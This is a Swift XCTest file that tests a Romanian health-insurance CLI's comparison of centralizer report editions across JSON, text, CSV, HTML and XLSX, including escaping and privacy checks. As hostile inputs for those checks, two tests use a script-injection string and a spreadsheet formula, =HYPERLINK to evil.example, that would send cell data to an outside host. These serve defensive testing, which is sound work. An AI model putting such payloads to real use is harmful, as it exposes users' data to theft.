import CCMCore
@testable import CCMPublishing
import CCMStore
import CCMTestSupport
import Foundation
import XCTest
@testable import CCMApp

/// `ccm centralizer --compare-to T [--as-of T2]` (`04-outputs.md` §4, `05-cli.md`) through the real
/// executable: what changed between two editions, as of each document's receipt and each verdict's run.
final class CompareEditionsTests: DatabaseTestCase {
    let fourteenth = "2026-11-14T08:00:00+02:00"
    func at(_ s: String) -> Date { ISO8601DateFormatter().date(from: s)! }

    var env: [String: String] { ["CCM_DATABASE_URL": database.url, "CCM_HOME": folder.path, "CCM_CASA": "TM"] }
    func ccm(_ args: [String]) throws -> CLI.Result { try CLI.run(args, env: env) }
    func compare(_ format: String, since: String? = nil, asOf: String? = nil) throws -> CLI.Result {
        let r = try ccm(["centralizer", "--luna", "2026-10", "--compare-to", since ?? fourteenth, "--format", format]
                        + (asOf.map { ["--as-of", $0] } ?? []))
        XCTAssertEqual(r.status, 0, "\(format): \(r.stderr)")
        return r
    }
    func json(_ r: CLI.Result) throws -> [String: Any] {
        try XCTUnwrap(JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any], r.stdout)
    }


    /// Before the 14th: the provider's INITIALA with one certificate in error (a bad CNP), and another
    /// provider's clean one; after it, the rectificative that corrects the certificate.
    func monthCorrectedAfterTheFourteenth() throws {
        try registerProvider(); try registerProvider(Fixture.otherCui)
        try drop([("1.xml", Fixture.document(certificates: [Fixture.cert("4400100", serial: 1),
                                                            Fixture.cert("4400101", serial: 2, cnp: "1850512350012"),
                                                            Fixture.cert("4400102", serial: 3)])),
                  ("2.xml", Fixture.document(cui: Fixture.otherCui, certificates: [Fixture.cert("4400200", serial: 4)]))])
        XCTAssertEqual(try ingest(at: "2026-11-10T10:00:00+02:00").outcomes.map(\.status), [.inregistrat, .inregistrat])
        var fixed = Fixture.cert("4400101", serial: 2); fixed.operatie = "MODIFICARE"
        try drop([("r1.xml", Fixture.document(tip: "RECTIFICATIVA", certificates: [fixed]))])
        XCTAssertEqual(try ingest(at: "2026-11-16T12:00:00+02:00").outcomes.first?.status, .inregistrat)
    }

    func testARectificativeAfterTheFourteenthIsTheOneChangeInEveryFormat() throws {
        try monthCorrectedAfterTheFourteenth()

        let j = try json(try compare("json"))
        XCTAssertEqual(j["casa"] as? String, "TM")
        XCTAssertEqual(j["luna"] as? String, "2026-10")
        XCTAssertEqual(j["from"] as? String, fourteenth)
        XCTAssertNotNil((j["to"] as? String).flatMap { ISO8601DateFormatter().date(from: $0) }, "to: now, ISO 8601")
        let changes = try XCTUnwrap(j["changes"] as? [[String: Any]])
        XCTAssertEqual(changes.count, 1, "the other provider did not change: not listed")
        XCTAssertEqual(changes[0]["cui"] as? String, Fixture.cui)
        XCTAssertEqual(changes[0]["denumire"] as? String, "CMI Dr. Test \(Fixture.cui)")
        XCTAssertEqual((changes[0]["before"] as? [String: Any])?["stadiu"] as? String, "CU ERORI")
        XCTAssertEqual((changes[0]["after"] as? [String: Any])?["stadiu"] as? String, "VALIDAT")
        // The exact shape of §4, keys in its order.
        let raw = try compare("json", asOf: "2026-11-30T23:00:00+02:00").stdout
        XCTAssertEqual(raw, """
            {"casa": "TM", "luna": "2026-10", "from": "2026-11-14T08:00:00+02:00", "to": "2026-11-30T23:00:00+02:00", \
            "changes": [{"cui": "31001235", "denumire": "CMI Dr. Test 31001235", \
            "before": {"stadiu": "CU ERORI", "nrCertificate": 3, "nrCertificateCuErori": 1}, \
            "after": {"stadiu": "VALIDAT", "nrCertificate": 3, "nrCertificateCuErori": 0}}]}

            """)

        let text = try compare("text", asOf: "2026-11-30T23:00:00+02:00").stdout
        XCTAssertEqual(text.split(separator: "\n").map(String.init), [
            "Schimbări în tabelul centralizator CAS Timiș, luna 2026-10, de la ediția din 14.11.2026 08:00 la situația din 30.11.2026 23:00 (ora României)",
            "31001235 CMI Dr. Test 31001235: CU ERORI → VALIDAT; certificate 3; cu erori 1 → 0",
            "1 furnizor și-a schimbat situația.",
        ])

        let csv = try compare("csv", asOf: "2026-11-30T23:00:00+02:00")
        XCTAssertEqual(Array(csv.stdoutBytes.prefix(3)), [0xEF, 0xBB, 0xBF], "UTF-8 BOM")
        XCTAssertEqual(csv.stdout.dropFirst().components(separatedBy: "\r\n"), [
            "Nr. crt.;CUI;Denumire furnizor;Stadiu procesare la 14.11.2026 08:00;Nr. certificate raportate la 14.11.2026 08:00;"
                + "Nr. certificate cu erori la 14.11.2026 08:00;Stadiu procesare la 30.11.2026 23:00;"
                + "Nr. certificate raportate la 30.11.2026 23:00;Nr. certificate cu erori la 30.11.2026 23:00;Observații",
            "1;31001235;CMI Dr. Test 31001235;CU ERORI;3;1;VALIDAT;3;0;",
            "",
        ])

        let html = try compare("html").stdout
        XCTAssertTrue(html.hasPrefix("<!DOCTYPE html>\n<html lang=\"ro\">"))
        XCTAssertTrue(html.contains("<time datetime=\"2026-11-14T08:00:00+02:00\">14.11.2026 08:00</time>"))
        XCTAssertEqual(matches(#"<tr [^>]*data-cui="([^"]*)""#, in: html), [Fixture.cui])
        XCTAssertTrue(html.contains("CU ERORI</span></span><span class=\"sageata\" aria-hidden=\"true\">→</span>"), "before → after")
        XCTAssertTrue(html.contains("1 furnizor și-a schimbat situația."))

        // The workbook, on standard output: the centralizer's conventions, read back.
        let xlsx = try compare("xlsx", asOf: "2026-11-30T23:00:00+02:00")
        XCTAssertEqual(Array(xlsx.stdoutBytes.prefix(2)), Array("PK".utf8), "a zip on standard output")
        let path = folder.appendingPathComponent("comparatie.xlsx")
        try xlsx.stdoutBytes.write(to: path)
        let book = try XLSXBook(path.path)
        XCTAssertEqual(book.sheetNames, ["Schimbări"])
        let sheet = try book.sheet("Schimbări")
        XCTAssertEqual(sheet.string("A1"), "Ce s-a schimbat în tabelul centralizator – Casa de Asigurări de Sănătate Timiș – luna octombrie 2026")
        XCTAssertEqual(sheet.string("A2"), "Ediția din 14.11.2026 08:00 comparată cu situația la 30.11.2026 23:00 (ora României) · "
                       + "1 furnizor și-a schimbat situația")
        let core = try XLSXBook.part(path.path, "docProps/core.xml")
        XCTAssertEqual(core.first("dc:title")?.text ?? core.first("title")?.text,
                       "Schimbări în tabelul centralizator CAS Timiș, luna 2026-10, 14.11.2026 08:00 → 30.11.2026 23:00")
        XCTAssertEqual(core.first("dc:creator")?.text ?? core.first("creator")?.text, "Casa de Asigurări de Sănătate Timiș")
        XCTAssertEqual(sheet.rowStrings(3, columns: 10), csv.stdout.dropFirst().components(separatedBy: "\r\n")[0].components(separatedBy: ";"),
                       "the CSV's columns, each edition named by its moment")
        XCTAssertEqual(sheet.rowStrings(4, columns: 10),
                       ["1.0", "31001235", "CMI Dr. Test 31001235", "CU ERORI", "3.0", "1.0", "VALIDAT", "3.0", "0.0", ""])
        for ref in ["A4", "E4", "F4", "H4", "I4"] { XCTAssertNotNil(sheet.number(ref), "\(ref): counts are numbers") }
        XCTAssertEqual(sheet.lastRow, 4, "the other provider did not change: not listed")
        XCTAssertEqual(book.fill(ofStyle: sheet.style("D4")), "F8D7DA", "CU ERORI, the centralizer's colour")
        XCTAssertEqual(book.fill(ofStyle: sheet.style("G4")), "D1E7DD", "VALIDAT, the centralizer's colour")
        for stage in [Stage.cuErori, .validat] {
            XCTAssertTrue(book.sharedStrings.contains(stage.rawValue))
        }
        XCTAssertEqual(book.fill(ofStyle: sheet.style("D4")), String(StagePalette.colours(.cuErori).fill, radix: 16).uppercased(), "one palette")
        XCTAssertEqual(book.fill(ofStyle: sheet.style("G4")), String(StagePalette.colours(.validat).fill, radix: 16).uppercased(), "one palette")
        let pane = try XCTUnwrap(sheet.pane, "no <pane>")
        XCTAssertEqual(pane["state"], "frozen")
        XCTAssertEqual(pane["ySplit"], "3", "the header row stays in view")
        XCTAssertEqual(pane["topLeftCell"], "D4")
        XCTAssertEqual(sheet.autoFilter, "A3:J4")
        XCTAssertEqual(sheet.columnWidths.count, 10, "every column has a width")
    }

    func testTheComparisonFollowsTheAsOfSemantics() throws {
        try monthCorrectedAfterTheFourteenth()
        // Before the rectificative's receipt nothing had changed yet.
        let early = try compare("text", asOf: "2026-11-16T11:59:00+02:00").stdout
        XCTAssertEqual(early.split(separator: "\n").last, "Nicio schimbare.")
        XCTAssertEqual((try json(try compare("json", asOf: "2026-11-16T11:59:00+02:00"))["changes"] as? [Any])?.count, 0)
        XCTAssertEqual((try json(try compare("json", asOf: "2026-11-16T12:00:00+02:00"))["changes"] as? [Any])?.count, 1,
                       "a document counts from its receipt time")
        // Before the INITIALA's receipt the provider had no report at all.
        let fromNothing = try json(try compare("json", since: "2026-11-09T00:00:00+02:00", asOf: fourteenth))
        let rows = try XCTUnwrap(fromNothing["changes"] as? [[String: Any]])
        XCTAssertEqual(rows.map { $0["cui"] as? String }, [Fixture.cui, Fixture.otherCui])
        XCTAssertEqual((rows[0]["before"] as? [String: Any])?["stadiu"] as? String, "FĂRĂ RAPORTARE")
        XCTAssertEqual((rows[0]["after"] as? [String: Any])?["stadiu"] as? String, "CU ERORI")
    }

    /// A revalidation's verdict counts from the moment it ran: a continuation reported before its
    /// initial is CU ERORI until `ccm revalidate` runs, then VALIDAT.
    func testARevalidationsVerdictCountsFromWhenItRan() throws {
        try ingestContinuationBeforeItsInitial()
        let beforeRevalidation = Bucharest.iso8601(Date())
        sleep(1) // the option takes whole seconds
        XCTAssertEqual(try compare("json", since: fourteenth, asOf: nil).stdout.contains("\"changes\": []"), true)
        let revalidated = try CLI.run(["revalidate", "--luna", "2026-10"], env: env.merging(["CCM_MEDIU": "TEST"]) { $1 })
        XCTAssertEqual(revalidated.status, 0, revalidated.stderr)
        let text = try compare("text", since: beforeRevalidation).stdout.split(separator: "\n").map(String.init)
        XCTAssertEqual(Array(text.dropFirst()), ["42005674 CMI Dr. Test 42005674: CU ERORI → VALIDAT; certificate 1; cu erori 1 → 0",
                                                 "1 furnizor și-a schimbat situația."])
        XCTAssertEqual(try compare("text", since: fourteenth, asOf: beforeRevalidation).stdout.split(separator: "\n").last,
                       "Nicio schimbare.", "as of before the revalidation: the old verdict")
    }

    func testAProviderInOneEditionOnlyIsSaidSo() throws {
        try registerProvider(); try registerProvider(Fixture.otherCui)
        // After the 14th the registry learns of a third convention in October and that the other one ended in September.
        let later = at("2026-11-20T00:00:00+02:00")
        let third = Provider(cui: "18273645", denumire: "Centrul Nou SRL", casa: "TM", nrConventie: "CV-3", conventieDeLa: LocalDate("2026-10-15")!,
                             conventiePanaLa: nil, email: nil, tip: .mf)
        var ended = try XCTUnwrap(try RegistryStore(db).provider(cui: Fixture.otherCui))
        ended.conventiePanaLa = LocalDate("2026-09-30")
        _ = try RegistryStore(db).upsert([third, ended], at: later)

        let changes = try XCTUnwrap(try json(try compare("json"))["changes"] as? [[String: Any]])
        XCTAssertEqual(changes.map { $0["cui"] as? String }, ["18273645", Fixture.otherCui])
        XCTAssertTrue(changes[0]["before"] is NSNull)
        XCTAssertEqual((changes[0]["after"] as? [String: Any])?["stadiu"] as? String, "FĂRĂ RAPORTARE")
        XCTAssertTrue(changes[1]["after"] is NSNull)
        let text = try compare("text").stdout
        XCTAssertTrue(text.contains("18273645 Centrul Nou SRL: FĂRĂ RAPORTARE; certificate 0; cu erori 0 (apare în tabel: la ediția din 14.11.2026 08:00 registrul nu avea o convenție a lui pentru această lună)"), text)
        XCTAssertTrue(text.contains("42005674 CMI Dr. Test 42005674: FĂRĂ RAPORTARE; certificate 0; cu erori 0 (nu mai apare în tabel"), text)
        XCTAssertTrue(text.hasSuffix("2 furnizori și-au schimbat situația.\n"))
        let csv = try compare("csv").stdout
        XCTAssertTrue(csv.contains("1;18273645;Centrul Nou SRL;;;;FĂRĂ RAPORTARE;0;0;apare în tabel"), csv)
        XCTAssertTrue(csv.contains("2;42005674;CMI Dr. Test 42005674;FĂRĂ RAPORTARE;0;0;;;;nu mai apare în tabel"), csv)
        let html = try compare("html").stdout
        XCTAssertTrue(html.contains("apare în tabel"))
        XCTAssertTrue(html.contains("<span class=\"sr\">absent</span>"))
    }

    /// `05-cli.md`: a usage error is exit 1 and one Romanian line, before any database is opened.
    func testUsageErrorsExitOneWithOneRomanianLine() throws {
        try registerProvider()
        let future = Bucharest.iso8601(Date().addingTimeInterval(86_400))
        let cases: [([String], String)] = [
            (["--compare-to", "2026-11-20T00:00:00+02:00", "--as-of", fourteenth], "este după --as-of"),
            (["--compare-to", future], "este în viitor"),
            (["--compare-to", fourteenth, "--as-of", future], "este în viitor"),
            (["--compare-to", "2026-11-14 08:00"], "--compare-to 2026-11-14 08:00: se așteaptă o dată ISO 8601 cu fus orar"),
            (["--compare-to", fourteenth, "--as-of", "ieri"], "--as-of ieri: se așteaptă o dată ISO 8601"),
            (["--compare-to", fourteenth, "--format", "pdf"], "--compare-to nu are formatul pdf: disponibile json, html, csv, text și xlsx"),
        ]
        for (args, expected) in cases {
            let out = folder.appendingPathComponent("nu-se-scrie.txt")
            let r = try ccm(["centralizer", "--luna", "2026-10"] + args + ["--output", out.path])
            XCTAssertEqual(r.status, 1, "\(args): \(r.stderr)")
            XCTAssertTrue(r.stderr.contains(expected), "\(args): \(r.stderr)")
            XCTAssertEqual(r.stderr.split(separator: "\n").count, 1, "\(args): one line")
            XCTAssertEqual(r.stdout, "")
            XCTAssertFalse(FileManager.default.fileExists(atPath: out.path), "\(args): nothing written")
        }
        // The same edition twice is no error: nothing changed.
        XCTAssertEqual(try compare("text", asOf: fourteenth).stdout.split(separator: "\n").last, "Nicio schimbare.")
    }

    /// The comparison carries counts and stages only: no CNP, insured's name or diagnosis in any
    /// format, and its --output is public like the table.
    func testNoPersonalDataInAnyFormatAndTheFileIsPublic() throws {
        try monthCorrectedAfterTheFourteenth()
        for format in ComparisonReport.formats {
            let out = folder.appendingPathComponent("comparatie.\(format)")
            let r = try ccm(["centralizer", "--luna", "2026-10", "--compare-to", fourteenth, "--format", format, "--output", out.path])
            XCTAssertEqual(r.status, 0, r.stderr)
            let text = format == "xlsx" ? try XLSXBook(out.path).sharedStrings.joined(separator: "\n")
                : try String(contentsOf: out, encoding: .utf8)
            XCTAssertTrue(text.contains(Fixture.cui), format)
            XCTAssertNil(text.range(of: "(?<![0-9])[0-9]{13}(?![0-9])", options: .regularExpression), "\(format): a 13-digit number")
            XCTAssertNil(text.range(of: "[0-9]\\*+[0-9]", options: .regularExpression), "\(format): a masked CNP")
            for personal in ["Ionescu", "Ștefan", "J06", "4400101"] {
                XCTAssertFalse(text.contains(personal), "\(format): \(personal)")
            }
            let mode = try XCTUnwrap(FileManager.default.attributesOfItem(atPath: out.path)[.posixPermissions] as? Int)
            XCTAssertEqual(mode & 0o777, 0o644, format)
        }
    }

    /// The page: self-contained, escaped, under a CSP that allows its one stylesheet and no script.
    func testThePageIsSelfContainedUnderAStrictPolicy() throws {
        let hostile = "<script>alert(\"x\")</script> & 'Fiii' SRL"
        let before = Centralizer(casa: "TM", luna: YearMonth("2026-10")!, asOf: at(fourteenth), months: [])
        let after = Centralizer(casa: "TM", luna: YearMonth("2026-10")!, asOf: at("2026-11-30T23:00:00+02:00"), months: [
            ProviderMonth(provider: Provider(cui: "18273645", denumire: hostile, casa: "TM", nrConventie: "CV-3",
                                             conventieDeLa: LocalDate("2026-10-01")!, conventiePanaLa: nil, email: nil, tip: .mf),
                          hasRegisteredInitial: true, certificates: 2, certificatesWithErrors: 0, errors: [], lastReport: nil,
                          observations: []),
        ])
        let html = ComparisonHTML.render(EditionComparison(from: before, to: after))
        XCTAssertFalse(html.contains("<script"))
        XCTAssertTrue(html.contains("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;Fiii&#39; SRL"))
        for forbidden in ["http://", "https://", "src=", "url(", "@import", "<link", "<img", "<iframe", "href="] {
            XCTAssertFalse(html.localizedCaseInsensitiveContains(forbidden), forbidden)
        }
        let policy = try XCTUnwrap(matches(#"http-equiv="Content-Security-Policy" content="([^"]*)""#, in: html).first)
        let style = try XCTUnwrap(html.range(of: "<style>").flatMap { open in
            html.range(of: "</style>", range: open.upperBound..<html.endIndex).map { String(html[open.upperBound..<$0.lowerBound]) } })
        XCTAssertEqual(policy, "default-src &#39;none&#39;; style-src &#39;\(CentralizerHTML.sha256(style))&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;")
        XCTAssertEqual(matches("<style", in: html).count, 1)
        XCTAssertTrue(style.hasPrefix(CentralizerHTML.css), "the centralizer's stylesheet, not a copy")
        XCTAssertEqual(matches(#"<th scope="col"[^>]*>([^<]*)</th>"#, in: html),
                       ["Nr. crt.", "CUI", "Denumire furnizor", "Stadiu procesare", "Nr. certificate raportate", "Nr. certificate cu erori", "Observații"])
        let empty = ComparisonHTML.render(EditionComparison(from: before, to: before))
        XCTAssertTrue(empty.contains("Nicio schimbare între cele două ediții."))
    }

    /// A provider shaped like a formula stays text; a provider in one edition only is said so, as in
    /// the text and CSV; nothing changed is said too.
    func testTheWorkbookKeepsFormulasAsTextAndSaysWhoIsInOneEditionOnly() throws {
        let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"
        func provider(_ cui: String, _ name: String) -> Provider {
            Provider(cui: cui, denumire: name, casa: "TM", nrConventie: "CV-\(cui)", conventieDeLa: LocalDate("2026-10-01")!,
                     conventiePanaLa: nil, email: nil, tip: .mf)
        }
        func month(_ p: Provider, certificates: Int = 0, errors: Int = 0) -> ProviderMonth {
            ProviderMonth(provider: p, hasRegisteredInitial: certificates > 0, certificates: certificates, certificatesWithErrors: errors,
                          errors: [], lastReport: nil, observations: [])
        }
        let house = HealthInsuranceHouse(code: "TM", fullName: "Casa de Asigurări de Sănătate Timiș", shortName: "CAS Timiș")
        let luna = YearMonth("2026-10")!
        let before = Centralizer(casa: "TM", luna: luna, asOf: at(fourteenth), months: [
            month(provider("31001235", hyperlink), certificates: 2, errors: 1), month(provider("42005674", "@SUM(A1:A9)")),
        ], house: house)
        let after = Centralizer(casa: "TM", luna: luna, asOf: at("2026-11-30T23:00:00+02:00"), months: [
            month(provider("31001235", hyperlink), certificates: 2), month(provider("18273645", "+Centrul Nou SRL")),
        ], house: house)
        let comparison = EditionComparison(from: before, to: after)
        let path = folder.appendingPathComponent("schimbari.xlsx").path
        try ComparisonXLSX.write(comparison, to: path)
        let book = try XLSXBook(path)
        let xml = try book.sheetXML("Schimbări")
        XCTAssertEqual(xml.all("f").count, 0, "no formula in the sheet")
        let sheet = try book.sheet("Schimbări")
        let rows = (4...6).map { sheet.rowStrings($0, columns: 10) }
        XCTAssertEqual(rows.map { $0[1] }, comparison.changes.map(\.cui), "the comparison's order")
        for (row, ch) in zip(rows, comparison.changes) {
            XCTAssertEqual(row[2], ch.denumire)
            XCTAssertEqual(row[9], ComparisonWording.presence(ch, from: comparison.from) ?? "", "the wording of the text and CSV")
        }
        let nameCells = xml.all("c").filter { ($0.attrs["r"] ?? "").hasPrefix("C") && $0.attrs["r"] != "C3" }
        XCTAssertEqual(nameCells.count, 3)
        XCTAssertTrue(nameCells.allSatisfy { $0.attrs["t"] == "s" }, "names are string cells: \(nameCells.map(\.attrs))")
        XCTAssertTrue(book.sharedStrings.contains(hyperlink))
        let appeared = try XCTUnwrap(rows.first { $0[1] == "18273645" })
        XCTAssertEqual(Array(appeared[3...8]), ["", "", "", "FĂRĂ RAPORTARE", "0.0", "0.0"], "no earlier side")
        XCTAssertTrue(appeared[9].hasPrefix("apare în tabel: la ediția din 14.11.2026 08:00"), appeared[9])
        let gone = try XCTUnwrap(rows.first { $0[1] == "42005674" })
        XCTAssertEqual(Array(gone[3...8]), ["FĂRĂ RAPORTARE", "0.0", "0.0", "", "", ""], "no later side")
        XCTAssertTrue(gone[9].hasPrefix("nu mai apare în tabel"), gone[9])
        let changed = try XCTUnwrap(rows.firstIndex { $0[1] == "31001235" }) + 4
        XCTAssertEqual(book.fill(ofStyle: sheet.style("D\(changed)")), "F8D7DA")
        XCTAssertEqual(book.fill(ofStyle: sheet.style("G\(changed)")), "D1E7DD")
        XCTAssertTrue(sheet.string("A2").hasSuffix("3 furnizori și-au schimbat situația"), sheet.string("A2"))

        let emptyPath = folder.appendingPathComponent("nimic.xlsx").path
        try ComparisonXLSX.write(EditionComparison(from: before, to: before), to: emptyPath)
        let empty = try XLSXBook(emptyPath).sheet("Schimbări")
        XCTAssertTrue(empty.string("A2").hasSuffix("Nicio schimbare"), empty.string("A2"))
        XCTAssertEqual(empty.string("A4"), "Nicio schimbare între cele două ediții.")
        XCTAssertEqual(empty.lastRow, 4)
        XCTAssertEqual(empty.pane?["ySplit"], "3")
    }

    func matches(_ pattern: String, in text: String) -> [String] {
        guard let re = try? NSRegularExpression(pattern: pattern) else { return [] }
        return re.matches(in: text, range: NSRange(text.startIndex..., in: text)).compactMap { m in
            let r = m.numberOfRanges > 1 ? m.range(at: 1) : m.range
            return Range(r, in: text).map { String(text[$0]) }
        }
    }
}
